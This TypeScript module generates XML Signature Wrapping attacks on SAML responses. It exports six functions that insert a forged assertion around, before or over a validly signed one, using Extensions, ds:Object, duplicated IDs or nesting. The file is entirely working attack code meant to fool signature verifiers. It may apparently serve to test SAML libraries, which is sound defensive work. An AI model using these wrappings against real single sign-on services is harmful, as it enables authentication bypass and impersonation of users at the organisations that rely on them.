/**
 * Signature wrapping: the signed assertion stays in the document, valid, while another one stands
 * where a careless reader looks. Each takes a signed response and a forged assertion.
 */
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

type Wrapping = (signedResponse: string, forgedAssertion: string) => string;

const signatureNs = 'http://www.w3.org/2000/09/xmldsig#';
const protocolNs = 'urn:oasis:names:tc:SAML:2.0:protocol';

export const wrappings: Record<string, Wrapping> = {
  'forged before the signed one': (xml, forged) =>
    edit(xml, forged, ({ response, signed, evil }) => response.insertBefore(evil, signed)),
  'forged after the signed one': (xml, forged) =>
    edit(xml, forged, ({ response, evil }) => response.appendChild(evil)),
  'signed one moved into Extensions': (xml, forged) =>
    edit(xml, forged, ({ document, response, signed, evil }) => {
      const extensions = document.createElementNS(protocolNs, 'samlp:Extensions');
      response.replaceChild(evil, signed);
      extensions.appendChild(signed);
      response.insertBefore(extensions, evil);
    }),
  'signed one moved into the Object of its signature': (xml, forged) =>
    edit(xml, forged, ({ document, response, signed, evil }) => {
      const [signature] = Array.from(signed.getElementsByTagNameNS(signatureNs, 'Signature'));
      const object = document.createElementNS(signatureNs, 'ds:Object');
      response.replaceChild(evil, signed);
      evil.insertBefore(signature as Element, evil.firstChild?.nextSibling ?? null);
      object.appendChild(signed);
      signature?.appendChild(object);
    }),
  'forged with the same ID': (xml, forged) =>
    edit(xml, forged, ({ response, signed, evil }) => {
      evil.setAttribute('ID', signed.getAttribute('ID') ?? '');
      response.insertBefore(evil, signed);
    }),
  'signed one nested in the forged one': (xml, forged) =>
    edit(xml, forged, ({ response, signed, evil }) => {
      response.replaceChild(evil, signed);
      evil.appendChild(signed);
    }),
};

interface Parts {
  document: Document;
  response: Element;
  signed: Element;
  evil: Element;
}

function edit(xml: string, forged: string, change: (parts: Parts) => void): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  const signed = Array.from(response.childNodes).find(
    (node) => (node as Element).localName === 'Assertion',
  ) as Element;
  const evil = document.importNode(
    new DOMParser().parseFromString(forged, 'text/xml').documentElement,
    true,
  );
  change({ document, response, signed, evil });
  return new XMLSerializer().serializeToString(document);
}
